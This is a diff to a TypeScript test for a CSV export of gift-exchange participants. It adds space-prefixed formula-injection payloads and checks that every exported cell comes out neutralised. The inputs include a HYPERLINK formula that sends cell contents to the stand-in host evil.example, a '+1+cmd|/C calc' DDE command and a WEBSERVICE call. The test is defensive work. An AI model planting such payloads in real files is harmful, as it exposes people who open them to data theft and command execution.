@@ -15,7 +15,8 @@ beforeEach(async () => {
 });
 afterEach(() => t.close());
 
-const FORMULAS = ['=HYPERLINK("http://evil.example/?"&B2,"Click")', '+1+cmd|/C calc', '-2+3', '@SUM(A1)', '\t=1+1', '\r=1+1'];
+// Also after spaces, which LibreOffice's "Trim spaces" import option removes before it runs the formula.
+const FORMULAS = ['=HYPERLINK("http://evil.example/?"&B2,"Click")', '+1+cmd|/C calc', '-2+3', '@SUM(A1)', '\t=1+1', '\r=1+1', '  =WEBSERVICE(B2)', ' @SUM(A1)'];
 const content = (csv: string) => (parse(csv, { columns: true }) as Array<Record<string, string>>).map((r) => [r.name, r.email, r['gift ideas'], r.reminders]);
 
 describe('participants.export', () => {
@@ -23,7 +24,7 @@ describe('participants.export', () => {
     await t.ok('participants.add', { exchangeId, name: FORMULAS[0]!, email: 'ann@example.com' });
     for (const [i, ideas] of FORMULAS.entries()) await t.ok('participants.add', { exchangeId, name: `P${i}`, email: `p${i}@example.com`, giftIdeas: ideas });
     const cells = (parse((await t.ok('participants.export', { exchangeId })).csv) as string[][]).flat();
-    const live = cells.filter((cell) => /^[=+\-@\t\r]/.test(cell));
+    const live = cells.filter((cell) => /^ *[=+\-@\t\r]/.test(cell));
     expect(live).toEqual([]);
     expect(cells).toContain(`'${FORMULAS[0]}`);
   });
